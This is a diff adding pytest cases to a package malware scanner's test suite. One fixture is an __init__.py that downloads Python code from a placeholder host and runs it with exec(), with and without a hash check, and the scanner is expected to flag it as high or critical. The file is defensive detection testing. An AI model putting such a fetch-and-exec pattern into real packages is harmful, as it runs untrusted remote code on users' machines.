@@ -70,3 +70,21 @@ def test_the_npm_stealer_variant_reaches_high(rules, case):
 def test_the_npm_benign_look_alike_stays_low(rules, case):
     result = _scan(rules, JS_BENIGN[case], "npm")
     assert result.verdict in ("clean", "low"), [f.summary() for f in result.findings]
+
+
+_FETCH_EXEC = ("import hashlib, urllib.request\nURL = 'https://cdn.fast-build.example/p.py'\n"
+               "code = urllib.request.urlopen(URL).read()\n{check}exec(code)\n")
+
+
+@pytest.mark.parametrize("check", ["", "assert hashlib.sha256(code).hexdigest() == '" + "b" * 64 + "'\n"])
+def test_an_init_fetching_code_from_a_constant_and_running_it_blocks_digest_check_or_not(rules, check):
+    # A digest check quiets a build step's download; it does not make exec(downloaded) one.
+    result = _scan(rules, {"pkg/__init__.py": _FETCH_EXEC.format(check=check)})
+    assert result.verdict in ("high", "critical"), [f.summary() for f in result.findings]
+    assert "eng_combo_import_remote_code" in {f.rule_id for f in result.findings}
+
+
+def test_an_init_fetching_json_settings_stays_low(rules):
+    body = ("import json, urllib.request\nURL = 'https://config.example.com/defaults.json'\n\n"
+            "def defaults():\n    return json.loads(urllib.request.urlopen(URL).read())\n")
+    assert _scan(rules, {"pkg/__init__.py": body}).verdict in ("clean", "low")
